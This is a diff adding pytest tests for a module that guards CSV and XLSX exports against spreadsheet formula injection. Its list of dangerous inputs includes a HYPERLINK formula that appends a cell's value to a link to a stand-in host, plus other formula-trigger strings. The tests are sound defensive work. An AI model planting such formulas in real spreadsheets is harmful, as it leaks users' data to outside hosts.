@@ -1,0 +1,97 @@
+"""cells: the one spreadsheet neutraliser used by every CSV and XLSX export (issue 11 item 8)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from contest import cells
+
+DANGEROUS = [
+    '=HYPERLINK("http://x"&D2,"x")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",  # full-width equals
+    "'=1+1",  # an apostrophe before a trigger gets one more (so the rule can be undone)
+    "''+1",
+    "-",
+    "=",
+]
+HARMLESS = ["Nguyễn Văn An", "", "Hà Tĩnh", "'Hà Tĩnh'", "091****123", "1; 3", "Giải Nhất", "a=b", "x-1"]
+NUMERIC_TEXT = ["-5", "+84", "-1,5", "-1.5", "12"]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_a_text_a_spreadsheet_would_evaluate_gets_the_neutraliser(text: str) -> None:
+    # Given a text starting with = + - @ TAB CR (or LF, or spaces before them)
+    # When it is made a cell
+    # Then it starts with the apostrophe, the rest unchanged
+    assert cells.neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", HARMLESS + NUMERIC_TEXT)
+def test_ordinary_text_and_number_text_are_unchanged(text: str) -> None:
+    assert cells.neutralise(text) == text
+
+
+@pytest.mark.parametrize("value", [-5, -1.5, 0, 15, Decimal("-2.5"), None, True])
+def test_numbers_stay_numbers_negative_ones_included(value: object) -> None:
+    assert cells.neutralise(value) is value
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n aA1,.\uff1d\u00a0"), max_size=8) | st.text(max_size=12))
+def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
+    # Given any text (weighted towards apostrophes, triggers and spaces)
+    # When it is neutralised and then restored
+    # Then it is exactly what it was (the question workbook's round trip is lossless)
+    assert cells.restore(cells.neutralise(text)) == text
+    # And what is written never starts a formula (only a bare number may start with a sign)
+    out = cells.neutralise(text)
+    starts = out.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
+    assert not starts or cells._NUMBER.fullmatch(out)
+
+
+def test_an_apostrophe_an_organiser_typed_before_ordinary_text_is_kept() -> None:
+    assert cells.restore("'Hà Tĩnh'") == "'Hà Tĩnh'"
+
+
+def test_the_csv_writer_quotes_text_neutralises_and_leaves_numbers_bare() -> None:
+    # Given a row with a formula-like name, a separator inside a text, a negative number and an empty cell
+    buf = io.StringIO()
+    writer = cells.csv_writer(buf)
+    writer.header(["Hạng", "Họ và tên", "Ghi chú", "Số", "Trống"])
+    writer.writerow([1, "=1+1", "An;=1+1", -5, None])
+    # When it is written
+    text = buf.getvalue()
+    # Then the header is plain, texts are quoted (no ';' split), numbers bare, the formula neutralised
+    assert text.splitlines()[0] == "Hạng,Họ và tên,Ghi chú,Số,Trống"
+    assert text.splitlines()[1] == '1,"\'=1+1","An;=1+1",-5,""'
+    assert list(csv.reader(io.StringIO(text)))[1] == ["1", "'=1+1", "An;=1+1", "-5", ""]
+
+
+def test_a_sheet_written_through_the_neutraliser_has_no_formula_cell() -> None:
+    # Given a workbook row with a formula-like text and a negative number
+    wb = Workbook()
+    cells.Sheet(wb.active).append(['=HYPERLINK("http://x"&D2,"x")', -3, "Nguyễn"])
+    out = io.BytesIO()
+    wb.save(out)
+    # When it is read back
+    ws = load_workbook(io.BytesIO(out.getvalue())).active
+    a, b, c = ws[1]
+    # Then the text is a text cell starting with the apostrophe and the number a number
+    assert (a.data_type, a.value) == ("s", '\'=HYPERLINK("http://x"&D2,"x")')
+    assert (b.data_type, b.value) == ("n", -3)
+    assert c.value == "Nguyễn"
